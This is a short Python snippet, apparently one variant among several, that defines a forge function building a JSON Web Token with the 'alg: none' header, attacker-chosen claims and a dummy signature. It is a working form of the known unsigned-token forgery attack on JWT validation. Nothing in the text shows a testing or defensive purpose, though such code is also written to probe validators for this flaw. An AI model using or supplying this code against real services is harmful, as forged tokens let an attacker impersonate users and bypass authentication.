# another way
def forge(claims):
    header = {"typ": "at+jwt", "alg": "none"}
    segments = [base64url_encode(json.dumps(part).encode("utf-8")) for part in (header, claims)]
    return ".".join([*segments, base64url_encode(b"no signature")])
